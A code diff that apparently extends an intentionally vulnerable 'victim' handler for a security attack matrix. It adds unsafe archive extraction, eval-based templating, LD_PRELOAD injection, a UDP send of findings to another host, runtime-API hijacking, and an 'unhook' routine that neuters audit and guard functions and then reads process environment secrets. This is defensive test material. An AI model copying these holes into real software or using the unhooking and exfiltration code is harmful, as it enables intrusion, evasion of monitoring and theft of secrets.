@@ -1,15 +1,21 @@
 """Does what its event asks for, and trusts it: a victim for the attack matrix. `op` names the operation, `v` is the value it uses."""
 import base64
 import ctypes
+import gc
+import io
 import json
 import os
 import pickle
+import re
+import shutil
 import socket
 import sqlite3
 import struct
 import subprocess
+import types
 import urllib.parse
 import urllib.request
+import zipfile
 
 DATA = "/var/task/data"
 BACKEND = os.environ["BACKEND"]
@@ -168,6 +174,38 @@ def signal_guard(_):
     return "no guard"
 
 
+def unzip(archive):
+    """Trusts the names in an archive."""
+    os.makedirs("/tmp/uploads", exist_ok=True)
+    with zipfile.ZipFile(io.BytesIO(base64.b64decode(archive))) as package:
+        paths = [os.path.normpath(os.path.join("/tmp/uploads", entry.filename)) for entry in package.infolist()]
+        for path, entry in zip(paths, package.infolist()):
+            write(path, package.read(entry).decode())
+    return "unpacked " + " ".join(paths)
+
+
+def send_datagram(target):
+    host, port = target.rsplit(":", 1)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+        sender.sendto(b"what was found", (host, int(port)))
+    return "sent"
+
+
+def preload(_):
+    shutil.copyfile("/var/task/data/hook.so", "/tmp/hook.so")
+    return run("/bin/sh", "/var/task/script.sh", env={**os.environ, "LD_PRELOAD": "/tmp/hook.so"})
+
+
+def unhook(_):
+    """Exchanges the code of whatever looks like a hook, as is done to hooks written in Python."""
+    def nothing(*arguments, **named):
+        return None
+    for found in gc.get_objects():
+        if isinstance(found, types.FunctionType) and re.search("hook|audit|guard|pellicle", found.__qualname__, re.I) and not found.__code__.co_freevars:
+            found.__code__ = nothing.__code__
+    return text_of("/proc/self/environ")
+
+
 def text_bytes(path):
     try:
         with open(path, "rb") as file:
@@ -188,6 +226,12 @@ OPERATIONS = {
     "connect-other": lambda v: connect(os.environ["OTHER"]),
     "lookup": lookup,
     "eval": lambda v: str(eval(v)),
+    "template": lambda v: re.sub(r"\{\{(.*?)\}\}", lambda found: str(eval(found[1].strip())), v),
+    "unzip": unzip,
+    "datagram": lambda v: send_datagram(os.environ["OTHER"]),
+    "preload": preload,
+    "unhook": unhook,
+    "switch-runtime": lambda v: run("/bin/bash", "/var/task/switch.sh", str(os.getpid()), *os.environ["AWS_LAMBDA_RUNTIME_API"].split(":"), REQUEST_ID),
     "deserialize": lambda v: str(pickle.loads(base64.b64decode(v))),
     "yaml": load_yaml,
     "sql": users,
